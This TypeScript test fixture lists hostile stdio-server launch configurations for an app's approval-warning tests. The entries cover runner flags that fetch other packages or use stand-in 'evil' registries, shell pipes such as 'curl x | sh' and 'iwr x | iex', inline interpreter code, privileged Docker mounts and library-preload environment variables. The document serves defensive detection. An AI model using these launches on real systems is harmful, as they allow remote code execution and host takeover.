// One table of launches that change what a stdio server does beyond "run this package", each with the warning code
// and words the approval must show: read by the launch-warnings unit test and by the approval-data test (the Host's
// servers.get), so a pattern listed here is checked on both.
import type { LaunchWarningCode } from '../../../shared/contract.js';
import type { LaunchShape } from '../../../electron/core/servers/launch-warnings.js';

/** One hostile launch and what its approval says about it. */
export interface HostileLaunch {
  what: string;
  launch: LaunchShape;
  code: LaunchWarningCode;
  says: RegExp;
}

const run = (command: string, args: string[], envNames: string[] = []): LaunchShape => ({ command, args, envNames });

export const HOSTILE_LAUNCHES: readonly HostileLaunch[] = [
  {
    what: 'npx -y -c',
    launch: run('npx', ['-y', '-c', 'curl x | sh']),
    code: 'npx_shell_command',
    says: /“curl x \| sh” as a shell command line/,
  },
  { what: 'npx --package', launch: run('npx', ['--package', 'evil', 'good']), code: 'npx_other_package', says: /package “evil”/ },
  {
    what: 'npx --registry',
    launch: run('npx', ['--registry=https://npm.evil.test', 'pkg']),
    code: 'runner_other_registry',
    says: /“https:\/\/npm\.evil\.test” instead of the usual registry/,
  },
  {
    what: 'uvx --from',
    launch: run('uvx', ['--from', 'evil-pkg', 'mcp-server-time']),
    code: 'runner_other_package',
    says: /uvx installs the package “evil-pkg”/,
  },
  {
    what: 'uvx --with',
    launch: run('uvx', ['--with', 'extra', 'mcp-server-time']),
    code: 'runner_other_package',
    says: /also installs “extra”/,
  },
  {
    what: 'uvx --index-url',
    launch: run('uvx', ['--index-url', 'https://pypi.evil.test/simple', 'srv']),
    code: 'runner_other_registry',
    says: /pypi\.evil\.test/,
  },
  { what: 'uv tool run --from', launch: run('uv', ['tool', 'run', '--from', 'evil', 'srv']), code: 'runner_other_package', says: /“evil”/ },
  {
    what: 'pnpm dlx --package',
    launch: run('pnpm', ['dlx', '--package', 'evil', 'srv']),
    code: 'runner_other_package',
    says: /pnpm dlx installs the package “evil”/,
  },
  { what: 'pnpm --package=… dlx', launch: run('pnpm', ['--package=evil', 'dlx', 'srv']), code: 'runner_other_package', says: /“evil”/ },
  {
    what: 'pnpm dlx -c',
    launch: run('pnpm', ['dlx', '-c', 'echo hi | sh']),
    code: 'runner_shell_command',
    says: /“echo hi \| sh” as a shell command line/,
  },
  {
    what: 'bunx --package',
    launch: run('bunx', ['--package', 'evil', 'srv']),
    code: 'runner_other_package',
    says: /bunx installs the package “evil”/,
  },
  { what: 'bun x -p', launch: run('bun', ['x', '-p', 'evil', 'srv']), code: 'runner_other_package', says: /“evil”/ },
  {
    what: 'yarn dlx -p',
    launch: run('yarn', ['dlx', '-p', 'evil', 'srv']),
    code: 'runner_other_package',
    says: /yarn dlx installs the package “evil”/,
  },
  {
    what: 'sh -c',
    launch: run('sh', ['-c', 'npx pkg; curl x | sh']),
    code: 'shell_command',
    says: /sh runs “npx pkg; curl x \| sh” as a command line/,
  },
  { what: 'bash -c', launch: run('/bin/bash', ['-c', 'exec node s.js']), code: 'shell_command', says: /bash runs “exec node s\.js”/ },
  { what: 'zsh -lc', launch: run('zsh', ['-lc', 'node s.js']), code: 'shell_command', says: /zsh runs “node s\.js”/ },
  {
    what: 'cmd /c with a command line',
    launch: run('cmd.exe', ['/d', '/c', 'npx pkg && calc']),
    code: 'shell_command',
    says: /cmd runs “npx pkg && calc”/,
  },
  {
    what: 'powershell -Command',
    launch: run('powershell', ['-NoProfile', '-Command', 'iwr x | iex']),
    code: 'shell_command',
    says: /powershell runs “iwr x \| iex”/,
  },
  {
    what: 'pwsh -EncodedCommand',
    launch: run('pwsh', ['-EncodedCommand', Buffer.from('calc', 'utf16le').toString('base64')]),
    code: 'shell_command',
    says: /encoded command, “calc”/,
  },
  // Interpreters given inline code: what runs is the text on the command line.
  {
    what: 'node -e',
    launch: run('node', ['-e', 'require("child_process").execSync("id")']),
    code: 'inline_code',
    says: /node runs the inline code “require\("child_process"\)\.execSync\("id"\)” given in its arguments/,
  },
  { what: 'node --eval=', launch: run('node', ['--eval=process.exit(1)']), code: 'inline_code', says: /“process\.exit\(1\)”/ },
  { what: 'node -p', launch: run('/usr/bin/node', ['-p', '1+1']), code: 'inline_code', says: /node runs the inline code “1\+1”/ },
  { what: 'node --print', launch: run('node.exe', ['--print', 'x']), code: 'inline_code', says: /“x”/ },
  {
    what: 'python -c',
    launch: run('python', ['-c', 'import os; os.system("id")']),
    code: 'inline_code',
    says: /python runs the inline code “import os; os\.system\("id"\)”/,
  },
  {
    what: 'python3 -c',
    launch: run('python3', ['-I', '-c', 'print(1)']),
    code: 'inline_code',
    says: /python3 runs the inline code “print\(1\)”/,
  },
  {
    what: 'deno eval',
    launch: run('deno', ['eval', 'Deno.exit(0)']),
    code: 'inline_code',
    says: /deno runs the inline code “Deno\.exit\(0\)”/,
  },
  { what: 'bun -e', launch: run('bun', ['-e', 'Bun.spawn(["id"])']), code: 'inline_code', says: /bun runs the inline code “Bun\.spawn/ },
  { what: 'perl -e', launch: run('perl', ['-e', 'system "id"']), code: 'inline_code', says: /perl runs the inline code “system "id"”/ },
  { what: 'ruby -e', launch: run('ruby', ['-e', '`id`']), code: 'inline_code', says: /ruby runs the inline code “`id`”/ },
  { what: 'cmd /c node -e', launch: run('cmd', ['/c', 'node', '-e', 'x']), code: 'inline_code', says: /node runs the inline code “x”/ },
  {
    what: 'env … python3 -c',
    launch: run('env', ['A=1', 'python3', '-c', 'x']),
    code: 'inline_code',
    says: /python3 runs the inline code “x”/,
  },
  {
    what: 'docker run --privileged',
    launch: run('docker', ['run', '--privileged', 'img']),
    code: 'container_privileged',
    says: /not isolated/,
  },
  {
    what: 'docker run -v /:/host',
    launch: run('docker', ['run', '-v', '/:/host', 'img']),
    code: 'container_host_root',
    says: /whole file system/,
  },
  {
    what: 'docker run -v docker.sock',
    launch: run('docker', ['run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'img']),
    code: 'container_engine_socket',
    says: /start other containers/,
  },
  {
    what: 'docker run --network host',
    launch: run('docker', ['run', '--network', 'host', 'img']),
    code: 'container_host_network',
    says: /only open to localhost/,
  },
  {
    what: 'docker run --pid host',
    launch: run('docker', ['run', '--pid=host', 'img']),
    code: 'container_host_pid',
    says: /see and signal them/,
  },
  {
    what: 'podman run --ipc host',
    launch: run('podman', ['run', '--ipc', 'host', 'img']),
    code: 'container_host_namespace',
    says: /namespaces/,
  },
  {
    what: 'docker run --cap-add',
    launch: run('docker', ['run', '--cap-add', 'SYS_ADMIN', 'img']),
    code: 'container_capability',
    says: /capability “SYS_ADMIN”/,
  },
  {
    what: 'docker run --cap-add ALL',
    launch: run('docker', ['run', '--cap-add=ALL', 'img']),
    code: 'container_capability',
    says: /“ALL” \(every one\)/,
  },
  {
    what: 'docker run --device',
    launch: run('docker', ['run', '--device', '/dev/sda', 'img']),
    code: 'container_device',
    says: /device “\/dev\/sda”/,
  },
  {
    what: 'docker run --security-opt seccomp=unconfined',
    launch: run('docker', ['run', '--security-opt', 'seccomp=unconfined', 'img']),
    code: 'container_unconfined',
    says: /turns off/,
  },
  { what: 'env NODE_OPTIONS', launch: run('node', ['s.js'], ['NODE_OPTIONS']), code: 'env_node_options', says: /--require/ },
  { what: 'env LD_PRELOAD', launch: run('node', ['s.js'], ['LD_PRELOAD']), code: 'env_library_preload', says: /^LD_PRELOAD is set/ },
  {
    what: 'env DYLD_INSERT_LIBRARIES',
    launch: run('node', ['s.js'], ['DYLD_INSERT_LIBRARIES']),
    code: 'env_library_preload',
    says: /^DYLD_INSERT_LIBRARIES is set/,
  },
  {
    what: 'env PYTHONSTARTUP',
    launch: run('python3', ['-m', 'srv'], ['PYTHONSTARTUP']),
    code: 'env_python_startup',
    says: /^PYTHONSTARTUP is set/,
  },
  {
    what: 'env PYTHONPATH',
    launch: run('python3', ['-m', 'srv'], ['PYTHONPATH']),
    code: 'env_module_path',
    says: /^PYTHONPATH is set: it changes where the program's modules are loaded from/,
  },
  { what: 'env NODE_PATH', launch: run('node', ['s.js'], ['NODE_PATH']), code: 'env_module_path', says: /^NODE_PATH is set/ },
  {
    what: 'env JAVA_TOOL_OPTIONS',
    launch: run('java', ['-jar', 's.jar'], ['JAVA_TOOL_OPTIONS']),
    code: 'env_interpreter_options',
    says: /^JAVA_TOOL_OPTIONS is set/,
  },
  { what: 'env BASH_ENV', launch: run('bash', ['s.sh'], ['BASH_ENV']), code: 'env_shell_startup', says: /^BASH_ENV is set/ },
  { what: 'env ENV', launch: run('sh', ['s.sh'], ['ENV']), code: 'env_shell_startup', says: /^ENV is set/ },
];
